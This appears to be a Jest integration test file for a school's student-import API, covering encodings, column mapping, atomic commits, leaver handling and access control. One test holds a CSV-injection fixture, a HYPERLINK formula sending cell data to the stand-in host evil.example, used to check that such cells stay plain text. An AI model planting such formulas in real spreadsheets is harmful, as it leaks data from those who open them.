import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { sql } from 'kysely';
import { createStudent } from '../../test/factories.js';
import { brusselsDate } from '../../platform/time/brussels.js';
import { statusExpression } from '../../db/student-columns.js';
import { createTestApp, type TestApp } from '../../test/harness.js';
import {
  commitImport,
  csv,
  fixture,
  schoolStudents,
  schoolWithAdmin,
  schoolXlsx,
  snapshot,
  upload,
} from '../../test/imports-support.js';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const base = (iid: string) => `/api/v1/institutions/${iid}`;
type Item = {
  stamnummer: string;
  changes: Array<{ field: string; from: unknown; to: unknown }>;
  warnings: Array<{ code: string }>;
  returning: boolean;
};

async function createAccount(
  agent: Awaited<ReturnType<typeof schoolWithAdmin>>['agent'],
  iid: string,
  studentId: string,
) {
  const res = await agent
    .post(`${base(iid)}/accounts`)
    .set('Idempotency-Key', `acc-${studentId}`)
    .send({ items: [{ studentId, type: 'basic', passwordKind: 'word' }] });
  expect(res.status).toBe(201);
  return res.body.items[0].username as string;
}

describe('POST /api/v1/institutions/:iid/imports', () => {
  it('previews a Windows-1252 CSV with ; against the school and commits it atomically', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    const daniels = await createStudent(t.ctx, iid, {
      stamnummer: '10231',
      first_name: 'Wilhelmina',
      last_name: 'Daniëls',
      group_name: '1A',
      birth_date: '2012-03-19',
      parent_emails: ['mama.daniels@telenet.be'],
    });
    const helena = await createStudent(t.ctx, iid, {
      stamnummer: '10233',
      first_name: 'Helena',
      last_name: 'Van den Broeck',
      group_name: '2B',
      birth_date: '2011-11-07',
    });
    const zoe = await createStudent(t.ctx, iid, {
      stamnummer: '10235',
      first_name: 'Zoë',
      last_name: 'Peeters',
      group_name: '2A',
      birth_date: '2011-12-31',
      enrolled_until: '2020-06-30',
      parent_emails: ['zoe.ouders@telenet.be'],
    });
    const leaver = await createStudent(t.ctx, iid, {
      stamnummer: '99999',
      first_name: 'Vertrek',
      last_name: 'Kerckhove',
    });
    await createStudent(t.ctx, iid, {
      stamnummer: '88888',
      first_name: 'Al',
      last_name: 'Weg',
      enrolled_until: '2021-06-30',
    });
    const helenaUsername = await createAccount(agent, iid, helena.id);
    await createAccount(agent, iid, zoe.id);
    await createAccount(agent, iid, leaver.id);

    const res = await upload(
      agent,
      iid,
      fixture('informat-leerlingen-cp1252.csv'),
      'leerlingen.csv',
    );
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({
      importId: res.body.id,
      status: 'previewed',
      format: 'csv',
      encoding: 'windows-1252',
      delimiter: ';',
      headerRow: 1,
      rowCount: 8,
      canCommit: true,
      counts: { create: 5, update: 3, unchanged: 0, leaving: 1, errors: 0, warnings: 1 },
      errors: [],
    });
    expect(res.body.columns.map((c: { field: string }) => c.field)).toEqual([
      'stamnummer',
      'lastName',
      'firstName',
      'group',
      'gender',
      'birthDate',
      'parentEmail1',
      'parentEmail2',
    ]);

    const items = async (kind: string) =>
      (await agent.get(`${base(iid)}/imports/${res.body.id}/items`).query({ kind })).body
        .items as Item[];
    const created = await items('create');
    expect(created.map((i) => i.stamnummer)).toEqual(['10232', '10234', '10236', '10237', '10238']);
    const updates = await items('update');
    expect(updates.find((i) => i.stamnummer === '10231')!.changes).toEqual([
      { field: 'group', from: '1A', to: '2A' },
      { field: 'gender', from: null, to: 'V' },
    ]);
    const renamed = updates.find((i) => i.stamnummer === '10233')!;
    expect(renamed.changes).toEqual(
      expect.arrayContaining([{ field: 'firstName', from: 'Helena', to: 'Hélène' }]),
    );
    expect(renamed.warnings).toEqual([expect.objectContaining({ code: 'username_basis_changed' })]);
    const returning = updates.find((i) => i.stamnummer === '10235')!;
    expect(returning).toMatchObject({ returning: true });
    expect(returning.changes).toEqual(
      expect.arrayContaining([{ field: 'enrolledUntil', from: '2020-06-30', to: null }]),
    );
    expect((await items('leaving')).map((i) => i.stamnummer)).toEqual(['99999']);
    const withWarnings = await agent
      .get(`${base(iid)}/imports/${res.body.id}/items`)
      .query({ warnings: true });
    expect(withWarnings.body.total).toBe(1);

    // Nothing is applied by the preview.
    const untouched = await t.db
      .selectFrom('students')
      .select('group_name')
      .where('id', '=', daniels.id)
      .executeTakeFirstOrThrow();
    expect(untouched.group_name).toBe('1A');

    // 1 of 3 enrolled students leaves: more than 20 %, so the preview asks for the count.
    expect(res.body).toMatchObject({ counts: { enrolled: 3 }, leaversNeedConfirmation: true });
    const commit = await agent
      .post(`${base(iid)}/imports/${res.body.id}/commit`)
      .send({ leavers: 'end', expectedLeavers: 1 });
    expect(commit.status).toBe(200);
    const today = commit.body.summary.leaversEndDate;
    expect(commit.body).toMatchObject({
      status: 'committed',
      canCommit: false,
      committedBy: { kind: 'admin', name: 'Test Admin' },
      summary: { created: 5, updated: 2, unchanged: 0, reactivated: 1, ended: 1, kept: 0 },
    });

    const rows = await schoolStudents(t.db, iid);
    const by = (s: string) => rows.find((r) => r.stamnummer === s)!;
    expect(by('10232')).toMatchObject({
      first_name: 'Ivica',
      last_name: 'Cauberghs',
      group_name: '2A',
      gender: 'M',
      birth_date: '2012-09-01',
      parent_emails: ['ivica.papa@gmail.com', 'cauberghs.mama@proximus.be'],
    });
    expect(by('10234')).toMatchObject({
      first_name: 'Noël',
      last_name: "D'Hondt",
      birth_date: '2012-02-29',
    });
    expect(by('10238')).toMatchObject({ first_name: 'Jürgen', last_name: 'Müller', gender: 'X' });
    expect(by('10233')).toMatchObject({
      first_name: 'Hélène',
      search_text: 'helene van den broeck',
    });
    expect(by('10235').enrolled_until).toBeNull();
    expect(by('99999').enrolled_until).toBe(today);
    expect(by('88888').enrolled_until).toBe('2021-06-30');

    // The account keeps its username; the returning student's is held until the school opens it
    // (unblock or a new password); the leaver can log in until tonight.
    const account = await t.db
      .selectFrom('accounts')
      .select('username')
      .where('student_id', '=', helena.id)
      .executeTakeFirstOrThrow();
    expect(account.username).toBe(helenaUsername);
    const status = async (sid: string) =>
      (await agent.get(`${base(iid)}/students/${sid}`)).body.status;
    expect(await status(zoe.id)).toBe('blocked');
    expect((await agent.get(`${base(iid)}/students/${zoe.id}/account`)).body.blockedReason).toMatch(
      /^Opnieuw ingeschreven/,
    );
    expect(await status(leaver.id)).toBe('active');
    t.clock.advance(24 * 3600 * 1000);
    try {
      const row = await t.db
        .selectFrom('students as s')
        .leftJoin('accounts as a', 'a.student_id', 's.id')
        .select(statusExpression(brusselsDate(t.clock.now)).as('status'))
        .where('s.id', '=', leaver.id)
        .executeTakeFirstOrThrow();
      expect(row.status).toBe('inactive');
    } finally {
      t.clock.advance(-24 * 3600 * 1000);
    }

    const events = await t.db
      .selectFrom('account_events')
      .select(['student_id', 'kind', 'detail'])
      .where('institution_id', '=', iid)
      .where('kind', '=', 'enrolment_changed')
      .execute();
    expect(events).toHaveLength(9);
    expect(events.find((e) => e.student_id === leaver.id)!.detail).toMatchObject({
      source: 'import',
      importId: res.body.id,
      change: 'ended',
    });
    expect(events.find((e) => e.student_id === zoe.id)!.detail).toMatchObject({
      change: 'reactivated',
    });

    // A second commit changes nothing and answers the same summary.
    const before = await snapshot(t.db, iid);
    const again = await agent
      .post(`${base(iid)}/imports/${res.body.id}/commit`)
      .send({ leavers: 'keep' });
    expect(again.status).toBe(200);
    expect(again.body.summary).toEqual(commit.body.summary);
    expect(await snapshot(t.db, iid)).toBe(before);

    // Importing the same file again changes nothing.
    const second = await upload(agent, iid, fixture('informat-leerlingen-cp1252.csv'));
    expect(second.body.counts).toEqual({
      create: 0,
      update: 0,
      unchanged: 8,
      leaving: 0,
      enrolled: 9,
      errors: 0,
      warnings: 0,
    });
    const beforeSecond = await snapshot(t.db, iid);
    const secondCommit = await agent.post(`${base(iid)}/imports/${second.body.id}/commit`).send({});
    expect(secondCommit.body.summary).toMatchObject({
      created: 0,
      updated: 0,
      unchanged: 8,
      ended: 0,
    });
    const after = JSON.parse(await snapshot(t.db, iid));
    expect(after.students).toEqual(JSON.parse(beforeSecond).students);
    expect(after.events).toEqual(JSON.parse(beforeSecond).events);

    const list = await agent.get(`${base(iid)}/imports`);
    expect(list.body.total).toBe(2);
    expect(list.body.items[0]).toMatchObject({
      id: second.body.id,
      status: 'committed',
      fileName: 'leerlingen.csv',
      createdBy: { kind: 'admin' },
    });
  });

  it('reads a UTF-8 CSV with BOM, commas, French headers and quoted commas', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    const res = await upload(agent, iid, fixture('eleves-utf8-bom.csv'), 'eleves.csv');
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({
      encoding: 'utf-8-bom',
      delimiter: ',',
      counts: { create: 5, errors: 0 },
    });
    await commitImport(agent, iid, res.body.id);
    const rows = await schoolStudents(t.db, iid);
    expect(
      rows.map((r) => [r.stamnummer, r.first_name, r.last_name, r.gender, r.birth_date]),
    ).toEqual([
      ['20101', 'Şükrü', 'Yılmaz', 'M', '2013-04-02'],
      ['20102', 'Łucja', 'Wójcik', 'V', '2013-01-12'],
      ['20103', 'Amélie', 'Dubois', 'V', '2012-08-22'],
      ['20104', 'Théo', 'Lambert, dit Lamy', 'M', '2012-09-30'],
      ['20105', 'Minh', 'Nguyễn', 'M', '2013-01-15'],
    ]);
    expect(rows[2]!.parent_emails).toEqual(['amelie.maman@skynet.be', 'papa.dubois@skynet.be']);
  });

  it('reads Excel "Unicode text" (UTF-16, tab-separated)', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    const res = await upload(agent, iid, fixture('excel-unicode-text.txt'), 'leerlingen.txt');
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({
      encoding: 'utf-16le',
      delimiter: '\t',
      counts: { create: 2 },
    });
  });

  it('reads an XLSX export: title rows, numbers, dates, links, rich text, formulas as data', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    const res = await upload(agent, iid, await schoolXlsx(), 'leerlingen.xlsx');
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({
      format: 'xlsx',
      sheet: 'Leerlingen',
      headerRow: 3,
      rowCount: 4,
      counts: { create: 4, errors: 0 },
    });
    expect(
      res.body.columns.find((c: { header: string }) => c.header === 'Telefoon').field,
    ).toBeNull();
    await commitImport(agent, iid, res.body.id);
    const rows = await schoolStudents(t.db, iid);
    expect(
      rows.map((r) => [r.stamnummer, r.first_name, r.last_name, r.birth_date, r.enrolled_until]),
    ).toEqual([
      ['060002', 'Ştefan', 'Van Damme', '2011-07-01', null],
      ['60001', 'Wilhelmina', 'Daniëls', '2011-03-19', '2027-06-30'],
      ['60003', 'Noor', 'PEETERS', '2011-01-05', null],
      ['60004', '=1+1', '=A1&B1', null, null],
    ]);
    expect(rows[1]!.parent_emails).toEqual(['mama.daniels@example.be']);
  });

  it('keeps formula-looking CSV cells as text', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    const res = await upload(agent, iid, fixture('formulas.csv'));
    expect(res.body.counts).toMatchObject({ create: 3, errors: 0 });
    await commitImport(agent, iid, res.body.id);
    const rows = await t.db
      .selectFrom('students')
      .select(['stamnummer', 'first_name', 'last_name', 'group_name'])
      .where('institution_id', '=', iid)
      .orderBy('stamnummer')
      .execute();
    expect(rows).toEqual([
      {
        stamnummer: '30001',
        first_name: 'Emma',
        last_name: '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
        group_name: '=1+2',
      },
      {
        stamnummer: '30002',
        first_name: '@SUM(A1:A9)',
        last_name: '+32 477 12 34 56',
        group_name: '-Klas',
      },
      { stamnummer: '30003', first_name: '-Noah', last_name: 'Peeters', group_name: '2A' },
    ]);
  });

  it('asks for a mapping when the headers are unknown, and accepts one', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    const file = csv([
      'Leerling-ID;Familie;Roepnaam;Groepje;Hobby',
      '7001;Peeters;Emma;1A;judo',
      '7002;Claes;Lotte;1B;',
    ]);
    const res = await upload(agent, iid, file);
    expect(res.status).toBe(422);
    expect(res.headers['content-type']).toContain('application/problem+json');
    expect(res.body).toMatchObject({
      code: 'columns_unrecognised',
      headerRow: 1,
      requiredFields: ['stamnummer', 'firstName', 'lastName'],
    });
    expect(res.body.columns[0]).toEqual({
      index: 0,
      header: 'Leerling-ID',
      field: null,
      samples: ['7001', '7002'],
    });
    expect(res.body.missingFields).toEqual(['stamnummer', 'lastName']);

    const mapped = await upload(agent, iid, file, 'x.csv', {
      stamnummer: 'Leerling-ID',
      lastName: 1,
      firstName: 'Roepnaam',
      group: 3,
    });
    expect(mapped.status).toBe(201);
    expect(mapped.body.columns.map((c: { field: string | null }) => c.field)).toEqual([
      'stamnummer',
      'lastName',
      'firstName',
      'group',
      null,
    ]);
    expect(mapped.body.counts.create).toBe(2);

    const bad = await upload(agent, iid, file, 'x.csv', {
      stamnummer: 'Nope',
      firstName: 2,
      lastName: 2,
    });
    expect(bad.status).toBe(400);
    const invalid = await agent
      .post(`${base(iid)}/imports`)
      .field('mapping', '{nope')
      .attach('file', file, 'x.csv');
    expect(invalid.status).toBe(400);
    expect(invalid.body.errors[0].path).toBe('mapping');
    const unknownField = await upload(agent, iid, file, 'x.csv', {
      stamnummer: 0,
      firstName: 2,
      lastName: 1,
      password: 4,
    } as never);
    expect(unknownField.status).toBe(400);
  });
});

describe('POST /api/v1/institutions/:iid/imports/:importId/commit', () => {
  it('answers 409 and writes nothing when the students changed after the preview', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    const s = await createStudent(t.ctx, iid, {
      stamnummer: '10231',
      first_name: 'W',
      last_name: 'D',
    });
    const res = await upload(agent, iid, fixture('informat-leerlingen-cp1252.csv'));
    await agent
      .patch(`${base(iid)}/students/${s.id}`)
      .send({ group: 'Anders' })
      .expect(200);
    const before = await snapshot(t.db, iid);
    const commit = await agent.post(`${base(iid)}/imports/${res.body.id}/commit`).send({});
    expect(commit.status).toBe(409);
    expect(commit.body.code).toBe('preview_stale');
    expect(await snapshot(t.db, iid)).toBe(before);
  });

  it('refuses an older preview once a newer one exists', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    const first = await upload(agent, iid, fixture('informat-leerlingen-cp1252.csv'));
    const second = await upload(agent, iid, fixture('informat-leerlingen-cp1252.csv'));
    const stale = await agent.post(`${base(iid)}/imports/${first.body.id}/commit`).send({});
    expect(stale.status).toBe(409);
    expect((await agent.get(`${base(iid)}/imports/${first.body.id}`)).body.status).toBe(
      'superseded',
    );
    // Without a body: the defaults (leavers: keep).
    expect((await agent.post(`${base(iid)}/imports/${second.body.id}/commit`)).status).toBe(200);
  });

  it('leaves the students missing from a partial file alone by default', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    for (let i = 0; i < 60; i++)
      await createStudent(t.ctx, iid, { stamnummer: String(40000 + i), enrolled_until: null });
    const res = await upload(agent, iid, fixture('informat-leerlingen-cp1252.csv'));
    expect(res.body).toMatchObject({
      counts: { leaving: 60, enrolled: 60 },
      leaversNeedConfirmation: true,
    });
    const before = await snapshot(t.db, iid);
    // Ending 60 of 60 needs the count: without it, or with another one, nothing changes.
    const refused = await agent
      .post(`${base(iid)}/imports/${res.body.id}/commit`)
      .send({ leavers: 'end' });
    expect(refused.status).toBe(422);
    expect(refused.body).toMatchObject({ code: 'leavers_confirmation_required', leavers: 60 });
    const wrong = await agent
      .post(`${base(iid)}/imports/${res.body.id}/commit`)
      .send({ leavers: 'end', expectedLeavers: 59 });
    expect(wrong.status).toBe(409);
    expect(wrong.body.code).toBe('leavers_count_changed');
    expect(await snapshot(t.db, iid)).toBe(before);
    expect((await agent.get(`${base(iid)}/imports/${res.body.id}`)).body.status).toBe('previewed');

    const commit = await agent.post(`${base(iid)}/imports/${res.body.id}/commit`).send({});
    expect(commit.status).toBe(200);
    expect(commit.body.summary).toMatchObject({ ended: 0, kept: 60, leaversEndDate: null });
    const ended = await t.db
      .selectFrom('students')
      .select((eb) => eb.fn.countAll<string>().as('n'))
      .where('institution_id', '=', iid)
      .where('enrolled_until', 'is not', null)
      .executeTakeFirstOrThrow();
    expect(Number(ended.n)).toBe(0);
  });

  it('leaves leavers alone with leavers: keep', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    await createStudent(t.ctx, iid, { stamnummer: '55555', enrolled_until: '2099-08-31' });
    const res = await upload(agent, iid, fixture('informat-leerlingen-cp1252.csv'));
    const commit = await agent
      .post(`${base(iid)}/imports/${res.body.id}/commit`)
      .send({ leavers: 'keep' });
    expect(commit.body.summary).toMatchObject({ ended: 0, kept: 1, leaversEndDate: null });
    const row = await t.db
      .selectFrom('students')
      .select('enrolled_until')
      .where('institution_id', '=', iid)
      .where('stamnummer', '=', '55555')
      .executeTakeFirstOrThrow();
    expect(row.enrolled_until).toBe('2099-08-31');
  });

  it('writes nothing when the commit fails halfway', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    await createStudent(t.ctx, iid, { stamnummer: '10231', first_name: 'W', last_name: 'D' });
    const res = await upload(agent, iid, fixture('informat-leerlingen-cp1252.csv'));
    const before = await snapshot(t.db, iid);
    await sql`create function fail_on_10238() returns trigger language plpgsql as $$
      begin if new.stamnummer = '10238' then raise exception 'simulated failure'; end if; return new; end $$`.execute(
      t.db,
    );
    await sql`create trigger fail_10238 before insert on students for each row execute function fail_on_10238()`.execute(
      t.db,
    );
    try {
      const failed = await agent.post(`${base(iid)}/imports/${res.body.id}/commit`).send({});
      expect(failed.status).toBe(500);
      expect(await snapshot(t.db, iid)).toBe(before);
    } finally {
      await sql`drop trigger fail_10238 on students`.execute(t.db);
      await sql`drop function fail_on_10238()`.execute(t.db);
    }
    const retried = await agent.post(`${base(iid)}/imports/${res.body.id}/commit`).send({});
    expect(retried.status).toBe(200);
    expect(retried.body.summary.created).toBe(7);
  });

  it('warns when the e-mail of an activated co-account changes, and keeps the co-account', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    const s = await createStudent(t.ctx, iid, {
      stamnummer: '10231',
      first_name: 'Wilhelmina',
      last_name: 'Daniëls',
      parent_emails: ['oud@example.be'],
    });
    await t.db
      .insertInto('co_accounts')
      .values({
        student_id: s.id,
        slot: 1,
        institution_id: iid,
        state: 'active',
        email: 'oud@example.be',
        password_hash: 'x',
        activated_at: new Date(),
      })
      .execute();
    const res = await upload(agent, iid, fixture('informat-leerlingen-cp1252.csv'));
    const items = await agent
      .get(`${base(iid)}/imports/${res.body.id}/items`)
      .query({ warnings: true });
    expect(items.body.items[0]).toMatchObject({
      stamnummer: '10231',
      warnings: [expect.objectContaining({ code: 'co_account_email_changed' })],
    });
    await commitImport(agent, iid, res.body.id);
    const coAccount = await t.db
      .selectFrom('co_accounts')
      .select('state')
      .where('student_id', '=', s.id)
      .executeTakeFirstOrThrow();
    expect(coAccount.state).toBe('active');
    const student = await t.db
      .selectFrom('students')
      .select('parent_emails')
      .where('id', '=', s.id)
      .executeTakeFirstOrThrow();
    expect(student.parent_emails).toEqual(['mama.daniels@telenet.be']);
  });

  it('handles 5,000 rows in chunks', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    for (let i = 0; i < 2500; i += 500) {
      await t.db
        .insertInto('students')
        .values(
          Array.from({ length: 500 }, (_, j) => ({
            institution_id: iid,
            stamnummer: String(100000 + i + j),
            first_name: 'Emma',
            last_name: `Peeters${i + j}`,
            group_name: '1A',
            search_text: 'x',
          })),
        )
        .execute();
    }
    const lines = ['Stamnummer;Naam;Voornaam;Klas'];
    for (let i = 0; i < 5000; i++)
      lines.push(`${101000 + i};Peeters${1000 + i};Emma;${i % 2 ? '1A' : '1B'}`);
    const res = await upload(agent, iid, csv(lines));
    expect(res.body.counts).toMatchObject({
      create: 3500,
      update: 750,
      unchanged: 750,
      leaving: 1000,
    });
    expect(res.body.leaversNeedConfirmation).toBe(true);
    const commit = await agent
      .post(`${base(iid)}/imports/${res.body.id}/commit`)
      .send({ leavers: 'end', expectedLeavers: 1000 });
    expect(commit.body.summary).toMatchObject({
      created: 3500,
      updated: 750,
      unchanged: 750,
      ended: 1000,
    });
    const n = await t.db
      .selectFrom('students')
      .select((eb) => eb.fn.countAll<string>().as('n'))
      .where('institution_id', '=', iid)
      .executeTakeFirstOrThrow();
    expect(Number(n.n)).toBe(6000);
  });
});

describe('import access', () => {
  it('lets a helpdesk user read imports but not upload or commit', async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    const res = await upload(agent, iid, fixture('informat-leerlingen-cp1252.csv'));
    const helpdesk = await (async () => {
      const { createAdmin, loginAs } = await import('../../test/factories.js');
      const user = await createAdmin(t.ctx, { institutionId: iid, role: 'helpdesk' });
      return loginAs(t.request(), user.email);
    })();
    expect((await helpdesk.get(`${base(iid)}/imports`)).status).toBe(200);
    expect((await upload(helpdesk, iid, fixture('informat-leerlingen-cp1252.csv'))).status).toBe(
      403,
    );
    expect(
      (await helpdesk.post(`${base(iid)}/imports/${res.body.id}/commit`).send({})).status,
    ).toBe(403);
  });

  it("answers 404 for another school's import", async () => {
    const { iid, agent } = await schoolWithAdmin(t);
    const res = await upload(agent, iid, fixture('informat-leerlingen-cp1252.csv'));
    const other = await schoolWithAdmin(t);
    const before = await snapshot(t.db, iid);
    for (const path of [`/imports/${res.body.id}`, `/imports/${res.body.id}/items`]) {
      expect((await other.agent.get(`${base(other.iid)}${path}`)).status).toBe(404);
      expect((await other.agent.get(`${base(iid)}${path}`)).status).toBe(404);
    }
    expect(
      (await other.agent.post(`${base(other.iid)}/imports/${res.body.id}/commit`).send({})).status,
    ).toBe(404);
    expect(
      (await other.agent.post(`${base(iid)}/imports/${res.body.id}/commit`).send({})).status,
    ).toBe(404);
    expect((await other.agent.get(`${base(other.iid)}/imports/not-a-uuid`)).status).toBe(404);
    expect(await snapshot(t.db, iid)).toBe(before);
  });
});
